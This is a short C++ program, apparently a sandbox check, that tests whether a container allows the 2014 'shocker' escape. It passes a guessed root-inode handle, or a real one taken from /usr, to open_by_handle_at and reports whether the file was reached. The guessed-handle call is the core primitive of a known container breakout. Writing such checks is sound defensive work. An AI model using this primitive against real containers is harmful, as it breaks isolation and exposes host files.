// Open files by their handle, past all paths: a handle asked for, and a guessed one (the "shocker" of 2014).
#include <cerrno>
#include <cstdio>
#include <cstring>
#include <fcntl.h>
#include <unistd.h>
int main() {
    int number, host, which, mount_id;
    if (scanf("%d %d %d", &number, &host, &which) != 3) return 1;
    char space[sizeof(file_handle) + 128];
    auto* handle = (file_handle*)space;
    const unsigned char shocker[8] = {2, 0, 0, 0, 0, 0, 0, 0};
    handle->handle_bytes = which ? 8 : 128;
    handle->handle_type = 1;
    memcpy(handle->f_handle, shocker, 8);
    if (which == 0) name_to_handle_at(AT_FDCWD, "/usr", handle, &mount_id, 0);
    int root = open("/usr", O_RDONLY | O_DIRECTORY);
    bool opened = open_by_handle_at(root, handle, O_RDONLY) >= 0 || errno == ESTALE;
    puts(opened ? "REACHED a file by its handle" : "contained");
}
